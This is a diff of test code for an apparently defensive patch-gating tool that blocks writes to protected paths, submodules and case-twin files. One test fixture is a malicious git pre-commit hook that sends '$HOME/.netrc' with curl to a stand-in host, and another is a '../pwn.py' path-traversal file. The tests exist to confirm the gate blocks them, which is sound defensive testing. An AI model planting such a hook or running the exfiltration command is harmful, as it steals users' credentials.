@@ -160,3 +160,48 @@ def test_look_alike_names_do_not_pass_the_write_paths(repo_factory: Any, tmp_pat
         assert code == 1 and fired(report).get("write_paths") == "block", (branch, report["gates"])
         message = next(g for g in report["gates"] if g["name"] == "write_paths")["message"]
         assert "not a canonical name" in message, message
+
+
+def test_a_patch_git_refuses_for_its_paths_is_judged_not_an_error(repo_factory: Any, tmp_path: Path) -> None:
+    repo = repo_factory(FILES)
+    hook = ("diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
+            "+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -d @$HOME/.netrc evil.invalid\n")
+    escape = ("diff --git a/../pwn.py b/../pwn.py\nnew file mode 100644\n--- /dev/null\n+++ b/../pwn.py\n"
+              "@@ -0,0 +1 @@\n+print('pwned')\n")
+    before = git(repo, "status", "--porcelain"), git(repo, "worktree", "list")
+    for name, text in (("hook", hook), ("escape", escape)):
+        patch = tmp_path / f"{name}.patch"
+        patch.write_text(text)
+        code, report, err = gate(repo, tmp_path, "--patch", str(patch))
+        assert (code, fired(report)) == (1, {"write_paths": "block"}), (name, err)
+        assert report["stopped"] and report["tests"] is None
+    assert not (repo / ".git/hooks/pre-commit").exists() and not (repo.parent / "pwn.py").exists()
+    assert (git(repo, "status", "--porcelain"), git(repo, "worktree", "list")) == before
+    stale = tmp_path / "stale.patch"
+    stale.write_text("diff --git a/minicalc/calc.py b/minicalc/calc.py\n--- a/minicalc/calc.py\n+++ b/minicalc/calc.py\n"
+                     "@@ -1,2 +1,2 @@\n-def sub(a, b):\n+def add(a, b):\n     return a + b\n")
+    code, report, _ = gate(repo, tmp_path, "--patch", str(stale), "--no-tests")
+    assert code == 3 and "does not apply" in report["error"], "a stale patch is still an input error"
+
+
+def test_submodules_and_case_twins_inside_one_change_block(repo_factory: Any, tmp_path: Path) -> None:
+    repo = repo_factory(FILES)
+    git(repo, "checkout", "-q", "-B", "submodule", "main")
+    other = git(repo, "rev-parse", "HEAD").strip()
+    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{other},minicalc/vendored")
+    git(repo, "commit", "-q", "-m", "vendor a submodule")
+    sub = git(repo, "rev-parse", "HEAD").strip()
+    git(repo, "checkout", "-q", "main")
+    code, report, err = gate(repo, tmp_path, "--head", sub, "--no-tests")
+    assert (code, fired(report)) == (1, {"file_types": "block"}), err
+    assert "submodule" in next(g for g in report["gates"] if g["name"] == "file_types")["message"]
+    twins = commit(repo, {"minicalc/util.py": "A = 1\n", "minicalc/UTIL.py": "A = 2\n"}, "twins")
+    code, report, _ = gate(repo, tmp_path, "--head", twins, "--no-tests")
+    assert (code, fired(report)) == (1, {"write_paths": "block"})
+    git(repo, "checkout", "-q", "-B", "case-rename", "main")
+    git(repo, "mv", "minicalc/calc.py", "minicalc/Calc.py")
+    git(repo, "commit", "-q", "-m", "rename by case only")
+    renamed = git(repo, "rev-parse", "HEAD").strip()
+    git(repo, "checkout", "-q", "main")
+    code, report, _ = gate(repo, tmp_path, "--head", renamed, "--no-tests")
+    assert "write_paths" not in fired(report), "a rename that only changes case is not a twin"
